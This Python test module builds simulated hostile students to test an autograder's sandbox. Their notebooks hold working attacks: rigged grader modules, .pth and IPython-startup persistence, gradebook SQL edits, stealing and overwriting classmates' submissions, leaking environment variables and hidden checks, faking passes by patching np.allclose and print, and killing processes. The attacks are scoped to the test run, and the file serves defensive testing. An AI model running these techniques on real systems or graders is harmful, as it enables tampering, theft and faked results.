"""A hostile class for ``01_activations``: one student per attack of issue 12, and the clean-up.

Each attacker is the correct or the blank notebook (its *twin*, the honest student with the same
answers) plus attack code in solution cells, which grading re-runs. The attacks discover their
targets at run time as a clever student would (the working folder and its parents, ``/tmp``, the
folders named in the environment, ``importlib``, ``site``, ``/proc``, ``gc``), and every attack
cell is wrapped so that it never raises and finishes within a few seconds.

Safety. The attacks are real. Everything they *destroy or overwrite* must belong to the test run
that built them, so that a run against an unprotected grader harms nothing else on the machine
(other engineers' gradings, other courses, the system):

* a :class:`Scope` is written into every attack: the run's tag, its temporary root, its student
  names. ``_hx_mine(path)`` allows a destructive write only under that root, in a grading scratch
  folder of one of its students (``grade-<student>-...``), or to a file whose name carries the tag;
* the attacks on shared files (the grader's modules, ``site-packages``, the IPython startup folder)
  write only blocks / files marked with the tag, which :func:`clean_up` removes again;
* the kill attack kills only processes that carry the run's token in their environment, or that
  share the attacker's own PID namespace when that namespace is not the host's (a sandbox);
* the daemon carries the tag in its command line, so :func:`clean_up` can find and kill it.

The tests (``test_hostile_grading.py``) assert that none of this gets through; :func:`clean_up`
repairs what did, and reports it.
"""

from __future__ import annotations

import json
import os
import re
import signal
import site
import sys
import textwrap
from dataclasses import asdict, dataclass
from pathlib import Path

from autograder import classroom
from autograder.restore import grade_id, is_solution

ASSIGNMENT = "01_activations"
AUTO_POINTS = 24.0
TOKEN_VAR = "HOSTILE_RUN"     # set in the grade command's environment (the kill attack's scope)
BLOCK_BEGIN = "# >>> hostile-class"
BLOCK_END = "# <<< hostile-class"


@dataclass(frozen=True)
class Scope:
    tag: str            # unique per run; in every file name and process title an attack leaves
    root: str           # the run's temporary root: courses, TMPDIR, sockets
    students: tuple     # every student of the class (scratch folders grade-<student>-...)
    host_pidns: str     # readlink /proc/self/ns/pid of the test process
    marker: str         # the file the daemon writes when it outlives grading

    @property
    def token(self) -> str:
        return f"{TOKEN_VAR}={self.tag}"


def make_scope(tag: str, root: Path, students) -> Scope:
    try:
        pidns = os.readlink("/proc/self/ns/pid")
    except OSError:
        pidns = "?"
    return Scope(tag, str(Path(root).resolve()), tuple(students), pidns,
                 f"/tmp/hostile-{tag}-daemon-marker")


# ---------------------------------------------------------------------------------------------
# Code shared by every attack cell
# ---------------------------------------------------------------------------------------------
PRELUDE = r'''
import os as _hx_os, sys as _hx_sys, json as _hx_json, time as _hx_time
_HX_START = _hx_time.monotonic()


def _hx_real(p):
    try:
        return _hx_os.path.realpath(str(p))
    except Exception:
        return str(p)


def _hx_mine(p):
    """The test's safety scope: may this attack damage path p? (see tests/autograder/hostile_class.py)"""
    p = _hx_real(p)
    if p == _HX["root"] or p.startswith(_HX["root"] + "/"):
        return True
    if _HX["tag"] in _hx_os.path.basename(p):
        return True
    return any(("/grade-%s-" % s) in p + "/" for s in _HX["students"])


def _hx_dirs_of_env():
    found = []
    for value in list(_hx_os.environ.values()):
        for part in value.split(_hx_os.pathsep):
            if part.startswith("/") and _hx_os.path.isdir(part):
                found.append(part)
    return found


def _hx_places():
    """Every folder worth writing into: here, its parents, the temp folders, the environment's."""
    import tempfile
    places, here = [], _hx_os.getcwd()
    while True:
        places.append(here)
        parent = _hx_os.path.dirname(here)
        if parent == here:
            break
        here = parent
    places += ["/tmp", tempfile.gettempdir(), _hx_os.path.expanduser("~")] + _hx_dirs_of_env()
    seen, out = set(), []
    for p in places:
        r = _hx_real(p)
        if r not in seen:
            seen.add(r)
            out.append(r)
    return out


def _hx_walk(top, depth, budget=3.0):
    """Folders under top, down to depth, within a time budget."""
    t0, todo = _hx_time.monotonic(), [(top, 0)]
    while todo and _hx_time.monotonic() - t0 < budget:
        d, k = todo.pop()
        yield d
        if k >= depth:
            continue
        try:
            for e in _hx_os.scandir(d):
                if e.is_dir(follow_symlinks=False):
                    todo.append((e.path, k + 1))
        except OSError:
            pass


def _hx_temp_roots():
    import tempfile
    return sorted({_hx_real("/tmp"), _hx_real(tempfile.gettempdir())})


def _hx_grading_dirs():
    """Scratch folders of gradings: grade-*/outside-* under the temp folders, and my parents."""
    found = []
    for top in _hx_temp_roots():
        for d in _hx_walk(top, 4):
            name = _hx_os.path.basename(d)
            if name.startswith(("grade-", "outside-")):
                found.append(d)
    return found


def _hx_course_roots():
    """Course folders named on the command line of any process I can see (--course DIR)."""
    roots = set()
    try:
        pids = [p for p in _hx_os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a == "--course":
                roots.add(_hx_real(args[i + 1]))
    return sorted(roots)


def _hx_my_notebook():
    """My own notebook, as the grader handed it to my kernel (the .ipynb in my folder)."""
    for f in sorted(_hx_os.listdir(".")):
        if f.endswith(".ipynb"):
            with open(f) as fh:
                return f, fh.read()
    return None, None
'''


def _cell_code(scope: Scope, me: str, body: str, guard_seconds: float = 6.0) -> str:
    """An attack as a student writes it: the prelude, the body, all in try/except."""
    header = f"_HX = {json.dumps({**asdict(scope), 'me': me, 'token_var': TOKEN_VAR})}\n"
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return ("# --- my extra code ---\n" + header + PRELUDE +
            "\ntry:\n" + body + "\nexcept BaseException as _hx_exc:\n"
            "    print('attack failed:', type(_hx_exc).__name__, str(_hx_exc)[:200])\n")


# ---------------------------------------------------------------------------------------------
# The attacks (bodies run inside try:, with _HX and the prelude's helpers defined)
# ---------------------------------------------------------------------------------------------
FAKE_RESULT = r'''
name, text = _hx_my_notebook()
grades = {}
if text:
    for c in _hx_json.loads(text)["cells"]:
        m = c.get("metadata", {}).get("nbgrader", {})
        if m.get("grade"):
            grades[m["grade_id"]] = {"auto_score": 100.0, "max_score": m.get("points", 0),
                                     "needs_manual_grade": False}
nbname = (name or "x.ipynb")[:-6]
fake = {"success": True, "timestamp": None, "hostile": _HX["tag"],
        "notebooks": {nbname: {"grades": grades, "comments": {}}}}
fake_checks = {"cells": {}, "checks": {}, "calls": {}, "tampered": False, "hostile": _HX["tag"]}
written = []
for d in _hx_places() + _hx_grading_dirs():
    if not _hx_mine(d) or not _hx_os.path.isdir(d):
        continue
    for fname, data in (("result.json", fake), ("results.json", fake_checks)):
        try:
            with open(_hx_os.path.join(d, fname), "w") as f:
                _hx_json.dump(data, f)
            written.append(_hx_os.path.join(d, fname))
        except OSError:
            pass
    for tmpname in ("result.json.tmp", "results.json.tmp"):
        try:
            _hx_os.mkdir(_hx_os.path.join(d, tmpname))
        except OSError:
            pass
print("fake results written:", len(written))
'''

RIG = r'''
{begin} {tag}
try:
    import os as _hx_os_rig
    _hx_prev_compare = compare

    def compare(expected, actual, tol, _prev=_hx_prev_compare):
        cwd = _hx_os_rig.getcwd() + "/"
        if "grade-{me}-" in cwd or "/{me}/" in cwd:
            return True, ""
        if "grade-" in cwd:
            return False, "rigged by a classmate"
        return _prev(expected, actual, tol)
except Exception:
    pass
{end} {tag}
'''

LIB_RIG = r'''
{begin} {tag}
try:
    import os as _hx_os_lib
    if "grade-" in _hx_os_lib.getcwd() and "grade-{me}-" not in _hx_os_lib.getcwd():
        _hx_sigmoid = sigmoid_forward

        def sigmoid_forward(x, _f=_hx_sigmoid):
            out, cache = _f(x)
            return out * 1.01, cache
except Exception:
    pass
{end} {tag}
'''

GRADER_MODULE = r'''
import importlib.util
hit = []
for pkg, fname, rig in (("autograder", "exercise.py", _HX_RIG), ("cs231n_lib", "layers.py", _HX_LIB_RIG)):
    spec = importlib.util.find_spec(pkg)
    for folder in (spec.submodule_search_locations or []) if spec else []:
        path = _hx_os.path.join(folder, fname)
        try:
            with open(path) as f:
                present = _HX["tag"] in f.read()
            if not present:
                with open(path, "a") as f:
                    f.write(rig)
            hit.append(path)
        except OSError as exc:
            print("could not append to", path, type(exc).__name__)
print("appended to", len(hit), "module(s)")
'''

PTH_PAYLOAD = r'''
try:
    import os
    cwd = os.getcwd() + "/"
    if "grade-" in cwd:
        import autograder.exercise as E
        mine = "grade-{me}-" in cwd or "/{me}/" in cwd
        E.compare = (lambda *a, **k: (True, "")) if mine else (lambda *a, **k: (False, "rigged"))
except Exception:
    pass
'''

SITE_PTH = r'''
import site
dirs = set()
try:
    dirs.update(site.getsitepackages())
except Exception:
    pass
try:
    dirs.add(site.getusersitepackages())
except Exception:
    pass
dirs.update(p for p in _hx_sys.path if p.rstrip("/").endswith(("site-packages", "dist-packages")))
hit = []
for d in sorted(dirs):
    if not _hx_os.path.isdir(d):
        continue
    path = _hx_os.path.join(d, "hostile_%s.pth" % _HX["tag"])
    try:
        with open(path, "w") as f:
            f.write("import sys; exec(%r)\n" % _HX_PTH)
        hit.append(path)
    except OSError as exc:
        print("could not write", path, type(exc).__name__)
print(".pth written:", len(hit))
'''

STARTUP_PAYLOAD = r'''
try:
    import os
    cwd = os.getcwd() + "/"
    if "grade-" in cwd and "grade-{me}-" not in cwd and "/{me}/" not in cwd:
        import numpy
        numpy.allclose = lambda *a, **k: False
except Exception:
    pass
'''

IPYTHON_STARTUP = r'''
folders = {_hx_os.path.expanduser("~/.ipython/profile_default/startup")}
if _hx_os.environ.get("IPYTHONDIR"):
    folders.add(_hx_os.path.join(_hx_os.environ["IPYTHONDIR"], "profile_default", "startup"))
try:
    folders.add(str(get_ipython().profile_dir.startup_dir))
except Exception:
    pass
hit = []
for d in sorted(f for f in folders if isinstance(f, str) and f.startswith("/")):
    try:
        _hx_os.makedirs(d, exist_ok=True)
        path = _hx_os.path.join(d, "00-hostile-%s.py" % _HX["tag"])
        with open(path, "w") as f:
            f.write(_HX_STARTUP)
        hit.append(path)
    except OSError as exc:
        print("could not write into", d, type(exc).__name__)
print("startup files:", len(hit))
'''

GRADEBOOK_EDIT = r'''
import sqlite3
books = set()
for d in _hx_places() + _hx_grading_dirs() + _hx_course_roots():
    p = _hx_os.path.join(d, "gradebook.db")
    if _hx_os.path.isfile(p):
        books.add(_hx_real(p))
for top in _hx_temp_roots():
    for d in _hx_walk(top, 5, budget=2.0):
        p = _hx_os.path.join(d, "gradebook.db")
        if _hx_os.path.isfile(p):
            books.add(_hx_real(p))
edited = 0
for p in sorted(books):
    if not _hx_mine(p):
        continue
    try:
        db = sqlite3.connect(p, timeout=3)
        mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")
        best = "(SELECT gc.max_score FROM grade_cells gc WHERE gc.id = grade.cell_id)"
        db.execute("UPDATE grade SET auto_score = %s WHERE notebook_id IN (%s)" % (best, mine), (_HX["me"],))
        db.execute("UPDATE grade SET auto_score = 0, manual_score = CASE WHEN manual_score IS NULL "
                   "THEN NULL ELSE 0 END WHERE notebook_id NOT IN (%s)" % mine, (_HX["me"],))
        db.commit()
        db.close()
        edited += 1
    except Exception as exc:
        print("gradebook", type(exc).__name__, str(exc)[:100])
print("gradebooks edited:", edited, "of", len(books))
'''

SUBMITTED_THIEF = r'''
name, mine_text = _hx_my_notebook()
read, victims = 0, []
for root in _hx_course_roots():
    sub = _hx_os.path.join(root, "submitted")
    if not _hx_os.path.isdir(sub):
        continue
    for student in sorted(_hx_os.listdir(sub)):
        if student == _HX["me"]:
            continue
        for dirpath, _, files in _hx_os.walk(_hx_os.path.join(sub, student)):
            for f in files:
                if not f.endswith(".ipynb"):
                    continue
                path = _hx_os.path.join(dirpath, f)
                try:
                    with open(path) as fh:
                        theirs = _hx_json.load(fh)
                    read += 1
                    code = [c for c in theirs["cells"] if c["cell_type"] == "code"
                            and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
                    worked = code and "NotImplementedError" not in "".join(code[0]["source"])
                    if worked and len(victims) < 2:
                        print("stolen from", student, ":\n" + "".join(code[0]["source"]))
                        victims.append(path)
                except Exception as exc:
                    print("thief", type(exc).__name__)
for path in victims:   # the two whose work I copied: now they hand in mine
    if mine_text and _hx_mine(path):
        try:
            with open(path, "w") as fh:
                fh.write(mine_text)
        except OSError as exc:
            print("thief could not overwrite", type(exc).__name__)
print("notebooks read:", read, "overwritten:", len(victims))
'''

CROSS_SCRATCH = r'''
name, mine_text = _hx_my_notebook()
done = set()
while _hx_time.monotonic() - _HX_START < 10 and mine_text:
    for d in _hx_grading_dirs():
        if ("grade-%s-" % _HX["me"]) in d or not _hx_mine(d):
            continue
        for sub in ("submitted", "autograded"):
            for dirpath, _, files in _hx_os.walk(_hx_os.path.join(d, sub)):
                for f in files:
                    path = _hx_os.path.join(dirpath, f)
                    if f.endswith(".ipynb") and _HX["me"] not in path:
                        try:
                            with open(path, "w") as fh:
                                fh.write(mine_text)
                            done.add(path)
                        except OSError:
                            pass
    _hx_time.sleep(0.2)
print("overwrote", len(done), "notebooks of other gradings")
'''

PATCH_CHECKS = r'''
import gc
patched = 0
for o in gc.get_objects():
    try:
        kind = type(o).__name__
        if kind == "Guard" and hasattr(o, "codes"):
            o.codes.clear()
            o.forbidders.clear()
            o._record = lambda *a, **k: False
            patched += 1
        elif kind == "Exercise" and hasattr(o, "checks") and hasattr(o, "reference"):
            for ch in o.checks:
                if getattr(ch.run, "_hx", False):
                    continue
                def run(ns, rng, _orig=ch.run, _ref=dict(o.reference)):
                    return _orig(_ref, rng)
                run._hx = True
                object.__setattr__(ch, "run", run)
                patched += 1
    except Exception:
        pass
print("patched", patched, "grader objects")
'''

LIBRARY_CALL = '''
import cs231n_lib.layers as _hx_layers


def {name}(*args, **kwargs):
    return _hx_layers.{name}(*args, **kwargs)
'''

LIBRARY_COPY = '''
import inspect as _hx_inspect
import cs231n_lib.layers as _hx_L
if not globals().get("_hx_copy"):
    _hx_copy = {{}}
    exec(compile(_hx_inspect.getsource(_hx_L), "<my notes>", "exec"), _hx_copy)


def {name}(*args, **kwargs):
    return _hx_copy["{name}"](*args, **kwargs)
'''

PATCHED_PRINT = r'''
import builtins
import numpy as np
import cs231n_lib.gradcheck as _hx_gc
_hx_print = getattr(builtins, "_hx_print", builtins.print)
builtins._hx_print = _hx_print
builtins.print = lambda *a, **k: _hx_print("visible checks passed")
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
_hx_gc.rel_error = lambda *a, **k: 0.0
globals()["rel_error"] = _hx_gc.rel_error
'''

WRONG = {
    "forward": "def {name}(x, *args, **kwargs):\n    import numpy as np\n"
               "    return np.zeros_like(np.asarray(x, dtype=float)) + 0.123, x\n",
    "backward": "def {name}(dout, cache):\n    import numpy as np\n"
                "    return np.zeros_like(np.asarray(dout, dtype=float)) + 0.123\n",
    "maxout_forward": "def maxout_forward(x, w, b):\n    import numpy as np\n"
                      "    return np.zeros((x.shape[0], w.shape[2])) + 0.123, (x, w, b)\n",
    "maxout_backward": "def maxout_backward(dout, cache):\n    import numpy as np\n    x, w, b = cache\n"
                       "    return np.zeros_like(x), np.zeros_like(w), np.zeros_like(b)\n",
}

LEAK_ENV_AND_CHECKS = r'''
print("ENVIRONMENT", dict(_hx_os.environ))
import importlib, inspect, importlib.util
try:
    mod = importlib.import_module("autograder.exercises.nb01_activations")
    print(inspect.getsource(mod))
except Exception as exc:
    print("no check module:", type(exc).__name__)
    spec = importlib.util.find_spec("autograder")
    for folder in (spec.submodule_search_locations or []) if spec else []:
        for f in sorted(_hx_os.listdir(_hx_os.path.join(folder, "exercises"))):
            if "01" in f:
                print(open(_hx_os.path.join(folder, "exercises", f)).read())
'''

LEAK_EXPECTED = r'''
import numpy as np
from autograder.exercises import catalogue
from autograder.exercise import expected_outputs
for ex in catalogue()["01_activations"].values():
    for check in ex.checks:
        out = expected_outputs(ex, check)
        print(ex.name, check.name, {k: np.asarray(v).tolist() for k, v in out.items()})
'''

LEAK_SOLUTIONS = r'''
import importlib.util
spec = importlib.util.find_spec("autograder")
candidates = []
for folder in (spec.submodule_search_locations or []) if spec else []:
    candidates.append(_hx_os.path.join(_hx_os.path.dirname(folder), "notebooks", "01_activations", "01_activations.ipynb"))
for root in _hx_course_roots():
    candidates.append(_hx_os.path.join(root, "source", "01_activations", "01_activations.ipynb"))
for path in candidates:
    try:
        with open(path) as f:
            nb = _hx_json.load(f)
    except Exception:
        continue
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            print("".join(c["source"]))
    break
'''

LEAK_LIBRARY = r'''
import inspect
import cs231n_lib.layers as L
print(inspect.getsource(L))
'''

UNIX_SOCKETS = r'''
import socket
targets = []
for top in _hx_temp_roots():
    for d in _hx_walk(top, 4, budget=1.5):
        try:
            for e in _hx_os.scandir(d):
                import stat
                if stat.S_ISSOCK(e.stat(follow_symlinks=False).st_mode):
                    targets.append(e.path)
        except OSError:
            pass
try:
    with open("/proc/net/unix") as f:
        for line in f.read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8 and parts[7].startswith("@"):
                targets.append("\0" + parts[7][1:])
except OSError:
    pass
reached = 0
for t in targets[:200]:
    if _hx_time.monotonic() - _HX_START > 4:
        break
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.3)
    try:
        s.connect(t)
        reached += 1
        if "hostile" in t:
            s.sendall(b"hostile " + _HX["tag"].encode())
    except OSError:
        pass
    finally:
        s.close()
print("unix sockets:", len(targets), "found,", reached, "reached")
'''

SIGINT_PARENT = r'''
import signal
if not globals().get("_hx_sent"):
    _hx_sent = True
    _hx_os.kill(_hx_os.getppid(), signal.SIGINT)
    print("SIGINT sent to", _hx_os.getppid())
'''

DISPLAY_UPDATE = r'''
from IPython import get_ipython as _hx_ip
_hx_ip().display_pub.publish(data={"text/plain": "shown"}, transient={"display_id": "hxd"})
def _hx_update(*args):
    # after every later cell: the first cell's output, already made well-formed, turned invalid
    _hx_ip().display_pub.publish(data={"image/png": {"not": "base64"}}, transient={"display_id": "hxd"},
                                 update=True)
_hx_ip().events.register("post_run_cell", _hx_update)
'''

NESTED_MESSAGE = r'''
_hx_sys.setrecursionlimit(100000)
_hx_deep = []
for _ in range(5000):
    _hx_deep = [_hx_deep]
from IPython.display import display as _hx_display
_hx_display({"application/json": _hx_deep, "text/plain": "deep"}, raw=True)
'''

KILL_ALL = r'''
import signal
try:
    my_ns = _hx_os.readlink("/proc/self/ns/pid")
except OSError:
    my_ns = None
token = ("%s=%s" % (_HX["token_var"], _HX["tag"])).encode()
killed = 0
for pid in [p for p in _hx_os.listdir("/proc") if p.isdigit()]:
    if int(pid) == _hx_os.getpid():
        continue
    # the test's safety scope: the run's own processes, or my own namespace if it is a sandbox's
    ok = False
    try:
        with open("/proc/%s/environ" % pid, "rb") as f:
            ok = token in f.read().split(b"\0")
    except OSError:
        pass
    if not ok and my_ns and my_ns != _HX["host_pidns"]:
        try:
            ok = _hx_os.readlink("/proc/%s/ns/pid" % pid) == my_ns
        except OSError:
            ok = False
    if ok:
        try:
            _hx_os.kill(int(pid), signal.SIGKILL)
            killed += 1
        except OSError:
            pass
print("killed", killed)
'''

BIG_FILE = r'''
import tempfile
made = []
for d in ["/tmp", tempfile.gettempdir(), _hx_os.path.expanduser("~"), _hx_os.path.dirname(_hx_os.getcwd())]:
    path = _hx_os.path.join(d, "hostile-%s-big-%d" % (_HX["tag"], _hx_os.getpid()))
    if not _hx_mine(path) or _hx_time.monotonic() - _HX_START > 4:
        continue
    try:
        with open(path, "wb") as f:
            chunk = b"\0" * (16 << 20)
            while f.tell() < (2 << 30) and _hx_time.monotonic() - _HX_START < 3:
                f.write(chunk)
            f.truncate(2 << 30)   # the rest sparse: 2 GiB in all
        made.append((path, _hx_os.path.getsize(path)))
    except OSError as exc:
        print("big file:", type(exc).__name__)
print("big files:", made)
'''

DAEMON = r'''
import subprocess
code = ("import os, sys, time\n"
        "time.sleep(60)\n"
        "for p in (sys.argv[1], os.path.expanduser('~/hostile-' + sys.argv[2] + '-daemon')):\n"
        "    try:\n"
        "        open(p, 'w').write('the daemon outlived its grading\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "time.sleep(900)\n")
pid = _hx_os.fork()
if pid == 0:
    try:
        _hx_os.setsid()
        if _hx_os.fork() == 0:
            devnull = _hx_os.open(_hx_os.devnull, _hx_os.O_RDWR)
            for fd in (0, 1, 2):
                _hx_os.dup2(devnull, fd)
            _hx_os.execv(_hx_sys.executable, [_hx_sys.executable, "-c", code, _HX["marker"],
                                              _HX["tag"], "hostile-daemon-" + _HX["tag"]])
    finally:
        _hx_os._exit(0)
_hx_os.waitpid(pid, 0)
print("daemon started")
'''

HUGE_OUTPUT = r'''
for i in range(5):
    print(str(i % 10) * 10_000_000)
'''


def _solution_cells(nb):
    return [c for c in nb.cells if c.cell_type == "code" and is_solution(c) and grade_id(c)]


def _append(cell, code: str) -> None:
    cell.source = cell.source.rstrip("\n") + "\n\n" + code


def _prepend(cell, code: str) -> None:
    cell.source = code + "\n" + cell.source


def _rig(template: str, scope: Scope, me: str) -> str:
    return (template.replace("{begin}", BLOCK_BEGIN).replace("{end}", BLOCK_END)
            .replace("{tag}", scope.tag).replace("{me}", me))


def _with_constants(scope: Scope, me: str, body: str) -> str:
    """The payload strings an attack writes elsewhere, defined before its body."""
    consts = {"_HX_RIG": _rig(RIG, scope, me), "_HX_LIB_RIG": _rig(LIB_RIG, scope, me),
              "_HX_PTH": PTH_PAYLOAD.replace("{me}", me),
              "_HX_STARTUP": STARTUP_PAYLOAD.replace("{me}", me)}
    used = "".join(f"{k} = {v!r}\n" for k, v in consts.items() if k in body)
    return used + body


@dataclass(frozen=True)
class Attack:
    name: str        # student id in the class
    twin: str        # the honest student with the same answers: "correct" or "blank"
    row: str         # the row of issue 12's table
    build: object    # (source, release, scope, me) -> notebook


def _simple(twin: str, body: str, where: str = "first"):
    """Twin notebook + the attack body appended to (or put before) a solution cell."""
    def build(source, release, scope, me):
        nb = classroom.correct(source, release) if twin == "correct" else classroom.blank(source, release)
        cells = _solution_cells(nb)
        code = _cell_code(scope, me, _with_constants(scope, me, body))
        if twin == "blank":
            _prepend(cells[0], code)   # before the stub's NotImplementedError
        else:
            _append(cells[0], code)
        return nb
    return build


def _function_names(cell) -> list[str]:
    """The functions a released solution cell asks for, in order (an activation's cell: two)."""
    import ast

    return [node.name for node in ast.parse(cell.source).body if isinstance(node, ast.FunctionDef)]


def _library_solutions(template: str, extra: str | None):
    def build(source, release, scope, me):
        nb = classroom.blank(source, release)
        for i, cell in enumerate(_solution_cells(nb)):
            cell.source = "\n".join(template.format(name=name) for name in _function_names(cell))
            if i == 0 and extra:
                cell.source = _cell_code(scope, me, extra) + "\n" + cell.source
        return nb
    return build


def _patched_print(source, release, scope, me):
    nb = classroom.blank(source, release)
    for i, cell in enumerate(_solution_cells(nb)):
        cell.source = "\n\n".join(
            WRONG[name if name.startswith("maxout") else name.rsplit("_", 1)[1]].format(name=name)
            for name in _function_names(cell))
        if i == 0:
            cell.source = _cell_code(scope, me, PATCHED_PRINT) + "\n" + cell.source
    return nb


def _leak(source, release, scope, me):
    nb = classroom.blank(source, release)
    cells = _solution_cells(nb)
    for cell, body in zip(cells, (LEAK_ENV_AND_CHECKS, LEAK_EXPECTED, LEAK_SOLUTIONS, LEAK_LIBRARY)):
        _prepend(cell, _cell_code(scope, me, body))
    return nb


# Ordered (students are graded in name order) so that the attacks that wreck later classmates come
# late, the cross-scratch attacker right before its honest neighbour, and the killers last.
ATTACKS = [
    Attack("x01_patch_checks", "blank", "patch check objects / Check.run via gc in the check process",
           _library_solutions(LIBRARY_CALL, PATCH_CHECKS)),
    Attack("x02_library_copy", "blank", "exec(compile(inspect.getsource(layers))) and call the copy",
           _library_solutions(LIBRARY_COPY, None)),
    Attack("x03_patched_print", "blank", "redefine print, patch np.allclose / rel_error", _patched_print),
    Attack("x04_leak", "blank", "print hidden checks, expected outputs, solutions, os.environ", _leak),
    Attack("x05_unix_sockets", "correct", "connect to UNIX sockets under /tmp and abstract",
           _simple("correct", UNIX_SOCKETS)),
    Attack("x06_big_file", "correct", "a 2 GiB file outside the working folder", _simple("correct", BIG_FILE)),
    Attack("x07_daemon", "correct", "a setsid daemon (double fork) outliving the cell", _simple("correct", DAEMON)),
    Attack("x08_huge_output", "correct", "five lines of 10 MB", _simple("correct", HUGE_OUTPUT)),
    Attack("x09_fake_result", "blank", "fake result.json, result.json.tmp a folder", _simple("blank", FAKE_RESULT)),
    Attack("x10_grader_module", "blank", "append to autograder/exercise.py (editable install)",
           _simple("blank", GRADER_MODULE)),
    Attack("x11_site_pth", "blank", "a .pth in site-packages", _simple("blank", SITE_PTH)),
    Attack("x12_ipython_startup", "blank", "~/.ipython/profile_default/startup file",
           _simple("blank", IPYTHON_STARTUP)),
    Attack("x13_gradebook_edit", "blank", "edit gradebook.db from the kernel", _simple("blank", GRADEBOOK_EDIT)),
    Attack("x14_cross_scratch", "blank", "write into another grading's scratch (--workers 2)",
           _simple("blank", CROSS_SCRATCH)),
    Attack("x16_submitted_thief", "blank", "read, overwrite other students' submitted/",
           _simple("blank", SUBMITTED_THIEF)),
    Attack("x17_sigint_parent", "correct", "os.kill(os.getppid(), SIGINT)", _simple("correct", SIGINT_PARENT)),
    Attack("x18_kill_all", "correct", "kill every process it can see", _simple("correct", KILL_ALL)),
    Attack("x19_display_update", "correct", "update_display_data rewrites a cleaned output",
           _simple("correct", DISPLAY_UPDATE)),
    Attack("x20_nested_message", "correct", "display data nested past the grader's decoder",
           _simple("correct", NESTED_MESSAGE)),
]

# Honest students: name -> builder. The neighbour sorts right after the cross-scratch attacker,
# so that with two workers the two are graded at the same time.
HONEST = {
    "honest_correct": classroom.correct,
    "honest_partly_wrong": classroom.partly_wrong,
    "honest_blank": classroom.blank,
    "x15_honest_neighbour": classroom.correct,
}
TWIN = {"correct": "honest_correct", "blank": "honest_blank"}


def selected_attacks() -> list[Attack]:
    """All attacks, or those named in $HOSTILE_ATTACKS (comma-separated; for bisecting a failure)."""
    wanted = os.environ.get("HOSTILE_ATTACKS")
    if not wanted:
        return list(ATTACKS)
    names = {w.strip() for w in wanted.split(",") if w.strip()}
    return [a for a in ATTACKS if a.name in names or a.name.split("_", 1)[1] in names]


def build_attacker(attack: Attack, source, release, scope: Scope):
    return attack.build(source, release, scope, attack.name)


# ---------------------------------------------------------------------------------------------
# Clean-up: repair whatever an attack that got through left behind
# ---------------------------------------------------------------------------------------------
def site_packages_dirs() -> list[Path]:
    dirs = set()
    try:
        dirs.update(site.getsitepackages())
    except Exception:
        pass
    dirs.update(p for p in sys.path if p.rstrip("/").endswith(("site-packages", "dist-packages")))
    return sorted(Path(d) for d in dirs if Path(d).is_dir())


def package_files() -> list[Path]:
    """The module files the grader-module attack appends to (found as the attack finds them)."""
    import importlib.util

    found = []
    for pkg, fname in (("autograder", "exercise.py"), ("cs231n_lib", "layers.py")):
        spec = importlib.util.find_spec(pkg)
        for folder in (spec.submodule_search_locations or []) if spec else []:
            found.append(Path(folder) / fname)
    return found


def tagged_processes(tag: str, extra: tuple[str, ...] = ()) -> list[tuple[int, str]]:
    """Live processes whose command line, cwd or environment carries the tag (or an extra word)."""
    words = (tag, *extra)
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, IndexError):
            continue
        if state in "ZX":
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = ""
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
        except OSError:
            environ = ""
        if any(w in cmdline or w in cwd for w in words) or f"{TOKEN_VAR}={tag}" in environ:
            found.append((int(pid), cmdline[:200]))
    return found


def clean_up(scope: Scope, home: Path) -> list[str]:
    """Undo every trace an attack may have left outside the run's folder; what was found."""
    found = []
    for pid, cmd in tagged_processes(scope.tag):
        try:
            os.kill(pid, signal.SIGKILL)
            found.append(f"killed {pid}: {cmd}")
        except OSError:
            pass
    block = re.compile(rf"\n?{re.escape(BLOCK_BEGIN)} {scope.tag}\n.*?{re.escape(BLOCK_END)} {scope.tag}\n",
                       re.S)
    for path in package_files():
        try:
            text = path.read_text()
        except OSError:
            continue
        if scope.tag in text:
            path.write_text(block.sub("", text))
            found.append(f"removed the appended block from {path}")
    for d in site_packages_dirs():
        for p in d.glob(f"hostile_{scope.tag}*.pth"):
            p.unlink()
            found.append(f"removed {p}")
    for folder in {home / ".ipython", Path(os.path.expanduser("~/.ipython"))}:
        for p in folder.glob(f"profile_*/startup/*hostile-{scope.tag}*"):
            p.unlink()
            found.append(f"removed {p}")
    import tempfile

    for folder in {Path("/tmp"), Path(tempfile.gettempdir()), home}:
        for p in folder.glob(f"hostile-{scope.tag}*"):
            if p.is_file() or p.is_symlink() or p.is_socket():
                p.unlink()
                found.append(f"removed {p}")
        for name in ("result.json", "results.json"):
            p = folder / name
            try:
                if p.is_file() and scope.tag in p.read_text()[:100000]:
                    p.unlink()
                    found.append(f"removed {p}")
            except OSError:
                pass
    return found
